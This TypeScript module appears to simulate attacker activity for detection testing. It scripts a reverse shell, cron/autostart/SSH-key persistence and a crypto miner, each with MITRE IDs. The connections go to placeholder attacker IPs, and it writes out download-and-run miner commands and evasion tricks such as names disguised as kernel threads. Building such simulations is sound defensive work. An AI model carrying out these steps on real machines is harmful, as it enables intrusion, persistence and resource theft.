import { cron } from '../open/remote.ts';
import type { Attack } from './attack.ts';

const HOUR = 3600;

/** A shell whose keyboard is somewhere else. */
const reverseShell: Attack = {
  id: 'reverse-shell',
  name: 'reverse shell',
  mitre: 'T1059.004',
  run({ actor }, strength) {
    const thief = actor();
    const loud = strength === 'loud';
    // What holds the connection: a shell that was started by a document, or python under the victim's own shell.
    const sh = { path: '/usr/bin/dash', lasts: 2000 };
    const parent = loud ? thief.start('sh', sh, { parent: thief.running('soffice.bin') }) : thief.shell();
    const holder = loud ? 'bash' : 'python3';
    const held = thief.start(holder, { lasts: 3000 }, { parent });
    thief.connect('203.0.113.66', loud ? 4444 : 443, holder, `/usr/bin/${holder}`, 2400);
    // Typed into a shell that keeps no history: only what runs is seen.
    const shell = loud ? held : thief.start('sh', sh, { parent: held });
    const look = loud
      ? [
          'id',
          'whoami',
          'uname',
          'ps',
          'ss',
          'ip',
          'find',
          'cat',
          'grep',
          'getent',
          'lsblk',
          'mount',
          'wget',
          'chmod',
          'nc',
        ]
      : ['ls', 'ps', 'cat'];
    for (const name of look) {
      thief.wait(loud ? 7 : 120).run(name, { lasts: loud ? 25 : 20 }, { parent: shell });
    }
  },
};

/** It will be there after the next start. */
const persistence: Attack = {
  id: 'persistence',
  name: 'persistence by cron, autostart and authorized_keys',
  mitre: 'T1053.003',
  run({ victim, actor }, strength) {
    const thief = actor();
    const uid = String(victim.uid);
    const home = `/home/${victim.name}`;
    const time = String(Math.floor(thief.time));
    if (strength === 'stealthy') {
      // T1547.013: one entry, called as one that could have come with the desktop.
      thief.set('autostart', {
        path: `${home}/.config/autostart/xfce4-clipman-plugin.desktop`,
        uid,
        mtime: time,
        size: '214',
      });
      return;
    }
    const every = { minute: '*/5', hour: '*', day_of_month: '*', month: '*', day_of_week: '*' };
    thief.type('crontab -e').wait(30);
    thief.set('crontab', { path: `/var/spool/cron/crontabs/${victim.name}`, ...every, verb: '/tmp/.cache/upd' });
    thief.type('mkdir .config/autostart').wait(10).type('cp upd.desktop .config/autostart').wait(10);
    thief.set('autostart', { path: `${home}/.config/autostart/upd.desktop`, uid, mtime: time, size: '131' });
    thief.type('echo key').wait(5).type('chmod 600 .ssh/authorized_keys');
    const key = {
      uid,
      username: victim.name,
      algorithm: 'ssh-ed25519',
      comment: 'x@y',
      key_file: `${home}/.ssh/authorized_keys`,
    };
    thief.set('authorized_keys', key);
    for (let n = 0; n < 12; n++) {
      thief.time += 300;
      const sh = thief.start('sh', { path: '/usr/bin/dash', lasts: 60 }, { parent: cron });
      thief.run('upd', { path: '/tmp/.cache/upd', lasts: 40 }, { parent: sh });
      thief.connect('203.0.113.140', 8080, 'upd', '/tmp/.cache/upd', 30);
    }
  },
};

/** Somebody else's coins. */
const miner: Attack = {
  id: 'miner',
  name: 'crypto miner',
  mitre: 'T1496.001',
  run({ day, draw, actor }, strength) {
    if (strength === 'stealthy') {
      // Called like a thread of the kernel, from where it may lie, through a port that everybody uses.
      const quiet = actor();
      quiet.run(
        'kworker-u8-2',
        { path: '/var/tmp/.font-unix/kworker-u8-2', lasts: 3 * HOUR },
        { parent: quiet.shell() },
      );
      for (let n = 0; n < 4; n++) {
        quiet.time += draw.between(0.3, 0.6) * HOUR;
        quiet.connect('198.51.100.222', 443, 'kworker-u8-2', '/var/tmp/.font-unix/kworker-u8-2', HOUR / 3);
      }
      return;
    }
    const thief = actor();
    thief.time = Math.min(thief.time, day + 22 * HOUR);
    for (const command of ['wget http://x/m.tgz', 'tar xzf m.tgz', 'chmod +x xmrig', 'nproc', 'nohup ./xmrig']) {
      thief.wait(9).type(command);
    }
    for (let n = 0; n < 20; n++) {
      thief.time += draw.between(60, 260);
      thief.run('xmrig', { path: '/tmp/m/xmrig', lasts: 120 }, { onDisk: n % 3 !== 0, parent: thief.shell() });
      thief.connect(`198.51.100.${draw.whole(210, 216)}`, draw.pick([3333, 5555, 14_444]), 'xmrig', '/tmp/m/xmrig', 90);
    }
  },
};

export const footholdAttacks = [reverseShell, persistence, miner];
